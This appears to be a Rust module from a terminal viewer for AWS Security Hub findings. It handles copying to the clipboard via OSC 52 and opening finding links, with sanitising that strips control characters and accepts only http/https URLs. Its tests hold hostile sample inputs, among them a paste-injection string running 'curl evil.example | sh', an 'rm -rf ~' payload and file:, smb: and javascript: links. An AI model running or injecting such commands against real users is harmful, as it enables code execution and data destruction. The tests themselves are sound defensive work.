//! Copying and opening from the findings pane: `c` copies the finding's Id (its ARN) from
//! the table, or in the detail view the field / line at the top of the view; the runtime
//! sends it to the terminal's clipboard with OSC 52, which works over SSH. `U` shows the
//! finding's SourceUrl (else its Security Hub console link) and asks the runtime to open it
//! when a browser is available. Both distrust the text: control characters are stripped
//! before copying (a pasted ESC[201~ would end bracketed paste and run what follows), and
//! only `https:` / `http:` links go to the opener (`file:`, `smb:`, a `.desktop` file do not).

use super::detail::DetailLine;
use crate::app::State;
use crate::app::action::NotifyLevel;
use crate::app::effect::Effect;
use crate::domain::finding::Finding;
use crate::domain::sanitize;

/// The OSC 52 escape that puts `text` on the clipboard ("c" selection), base64 encoded.
pub fn osc52(text: &str) -> String {
    format!("\x1b]52;c;{}\x07", base64(text.as_bytes()))
}

fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The value shown on a detail line, as a user would want it pasted.
fn line_value(line: &DetailLine) -> Option<String> {
    match line {
        DetailLine::Field { value, .. } => Some(value.clone()),
        DetailLine::Heading(t) | DetailLine::Text(t) => Some(t.clone()),
        DetailLine::Pick { text, .. } => Some(text.clone()),
        DetailLine::Json(t) => {
            let t = t.trim().trim_end_matches(',');
            let value = t.split_once("\": ").map_or(t, |(_, v)| v);
            Some(value.trim_matches('"').to_string())
        }
        DetailLine::Blank => None,
    }
}

fn current(state: &State) -> Option<&Finding> {
    let pane = &state.findings;
    match &pane.detail {
        Some(d) => pane.held(&d.finding_id),
        None => pane.selected_finding(),
    }
}

pub(crate) fn copy(state: &mut State) -> Vec<Effect> {
    let detail_value = state.findings.detail.as_ref().and_then(|d| {
        let lines = d.tab_lines();
        lines.get(d.scroll).and_then(line_value)
    });
    let (what, text) = match (detail_value, current(state)) {
        (Some(v), _) => ("line", v),
        (None, Some(f)) => ("finding Id", f.id.clone()),
        (None, None) => {
            state.notify(NotifyLevel::Info, "nothing to copy");
            return Vec::new();
        }
    };
    copy_text(state, what, &text)
}

/// Puts `text` on the clipboard with control characters stripped, and says so.
pub(crate) fn copy_text(state: &mut State, what: &str, text: &str) -> Vec<Effect> {
    let stripped = sanitize::strip(text);
    let note = if stripped.len() == text.len() {
        ""
    } else {
        " (control characters removed)"
    };
    let text = stripped.into_owned();
    let shown: String = text.chars().take(60).collect();
    state.notify(
        NotifyLevel::Success,
        format!("copied {what} to the clipboard (OSC 52){note}: {shown}"),
    );
    vec![Effect::Copy(text)]
}

/// SourceUrl if the product gave one, else the finding in the Security Hub console.
pub fn url_of(f: &Finding, region: &str) -> String {
    if let Some(url) = f.raw.value().get("SourceUrl").and_then(|u| u.as_str()) {
        return url.to_string();
    }
    let region = if region.is_empty() { &f.region } else { region };
    let id: String = percent_encoding::utf8_percent_encode(
        &format!("Id=\\operator\\:EQUALS\\:{}", f.id),
        percent_encoding::NON_ALPHANUMERIC,
    )
    .to_string();
    format!(
        "https://{region}.console.aws.amazon.com/securityhub/home?region={region}#/findings?search={id}"
    )
}

/// Only web links are handed to the opener: `xdg-open` / `open` would just as well run a
/// `.desktop` file or mount an `smb:` share. A link with control or invisible characters
/// is not opened either (what is shown must be what is opened).
pub fn openable(url: &str) -> bool {
    let scheme = url.split_once(':').map(|(s, _)| s.to_ascii_lowercase());
    matches!(scheme.as_deref(), Some("https" | "http"))
        && url[url.find(':').map_or(0, |i| i + 1)..].starts_with("//")
        && !url
            .chars()
            .any(|c| sanitize::is_hostile(c) || c.is_whitespace())
}

pub(crate) fn open(state: &mut State) -> Vec<Effect> {
    let Some(url) = current(state).map(|f| url_of(f, &state.session.region)) else {
        state.notify(NotifyLevel::Info, "no finding selected");
        return Vec::new();
    };
    open_link(state, url)
}

/// Hands `url` to the opener if it is a plain web link (always shown to the user).
pub(crate) fn open_link(state: &mut State, url: String) -> Vec<Effect> {
    let shown = sanitize::visible(&url);
    if !openable(&url) {
        state.notify(
            NotifyLevel::Warning,
            format!("not opened (only https: and http: links are): {shown}"),
        );
        return Vec::new();
    }
    state.notify(NotifyLevel::Info, format!("open {shown}"));
    vec![Effect::OpenUrl(url)]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::app::PaneMsg;
    use crate::app::tests::{keys, loaded};

    #[test]
    fn base64_matches_the_rfc_vectors() {
        let cases = [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foobar", "Zm9vYmFy"),
        ];
        for (plain, encoded) in cases {
            assert_eq!(base64(plain.as_bytes()), encoded);
        }
        assert_eq!(osc52("hi"), "\x1b]52;c;aGk=\x07");
    }

    #[test]
    fn c_copies_the_id_from_the_table_and_the_top_line_in_the_detail() {
        let mut s = loaded(3, true);
        assert_eq!(keys(&mut s, "jc"), vec![Effect::Copy("f-1".into())]);
        // Detail: line 0 is the title; two lines down is the Workflow field.
        assert_eq!(keys(&mut s, "<enter>jjc"), vec![Effect::Copy("NEW".into())]);
        // JSON tab (document order, Id first): the value without key and quotes.
        let fx = keys(&mut s, "ljjc");
        assert_eq!(
            fx,
            vec![Effect::Copy(
                "arn:aws:securityhub:us-east-1::product/aws/securityhub".into()
            )],
            "{fx:?}"
        );
    }

    /// A state whose only finding has this Id and SourceUrl.
    fn with_finding(id: &str, source_url: Option<&str>) -> State {
        let mut raw = serde_json::json!({
            "Id": id,
            "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/securityhub",
            "Title": "hostile",
            "Severity": {"Label": "HIGH"},
            "Workflow": {"Status": "NEW"},
            "RecordState": "ACTIVE",
            "Resources": [{"Type": "Other", "Id": "r"}],
            "AwsAccountId": "111122223333",
            "UpdatedAt": "2024-05-01T10:00:00Z"
        });
        if let Some(u) = source_url {
            raw["SourceUrl"] = u.into();
        }
        let mut s = loaded(0, true);
        s.findings.start_load();
        let request = s.findings.request;
        crate::app::update(
            &mut s,
            crate::app::Action::Pane(PaneMsg::Findings(crate::app::FindingsMsg::Page {
                request,
                findings: vec![Finding::from_asff(raw).unwrap()],
                next_token: None,
            })),
        );
        assert_eq!(s.findings.rows().len(), 1);
        s
    }

    #[test]
    fn c_strips_control_characters_so_a_paste_cannot_run_commands() {
        for (id, copied) in [
            (
                "f-1\x1b[201~; curl evil.example | sh\n",
                "f-1[201~; curl evil.example | sh",
            ),
            ("f-2\r\nrm -rf ~\u{9b}0m", "f-2rm -rf ~0m"),
            ("\u{202E}gnp.exe\u{200B}", "gnp.exe"),
        ] {
            let mut s = with_finding(id, None);
            assert_eq!(
                keys(&mut s, "c"),
                vec![Effect::Copy(copied.into())],
                "{id:?}"
            );
            let shown = crate::app::tests::messages(&s).join("\n");
            assert!(shown.contains("control characters removed"), "{shown}");
            assert!(!shown.chars().any(sanitize::is_hostile), "{shown:?}");
        }
        // Nothing to remove, nothing said about it.
        let mut s = with_finding("arn:aws:x:us-east-1:1:finding/plain", None);
        assert_eq!(
            keys(&mut s, "c"),
            vec![Effect::Copy("arn:aws:x:us-east-1:1:finding/plain".into())]
        );
        assert!(!crate::app::tests::messages(&s)[0].contains("removed"));
    }

    #[test]
    fn u_opens_only_web_links_and_shows_the_others_without_opening() {
        for url in ["https://example.com/finding?id=1", "HTTP://example.com/x"] {
            let mut s = with_finding("f", Some(url));
            assert_eq!(
                keys(&mut s, "U"),
                vec![Effect::OpenUrl(url.into())],
                "{url}"
            );
        }
        for url in [
            "file:///etc/passwd",
            "smb://attacker.example/share",
            "file:///home/u/Downloads/evil.desktop",
            "javascript:alert(1)",
            "https:evil.example",
            "https://ok.example/\x1b]52;c;eA==\x07",
            "https://ok.example/ file:///etc/passwd",
            "--help",
        ] {
            let mut s = with_finding("f", Some(url));
            assert_eq!(keys(&mut s, "U"), Vec::<Effect>::new(), "{url:?}");
            let shown = crate::app::tests::messages(&s).join("\n");
            assert!(
                shown.starts_with("not opened (only https: and http: links are): "),
                "{shown}"
            );
            assert!(!shown.chars().any(sanitize::is_hostile), "{shown:?}");
        }
    }

    #[test]
    fn u_opens_the_console_link_when_there_is_no_source_url() {
        let mut s = loaded(1, true);
        let fx = keys(&mut s, "U");
        let [Effect::OpenUrl(url)] = fx.as_slice() else {
            panic!("{fx:?}")
        };
        assert!(
            url.starts_with("https://us-east-1.console.aws.amazon.com/securityhub/"),
            "{url}"
        );
        assert!(url.ends_with("f%2D0"), "{url}");
    }
}
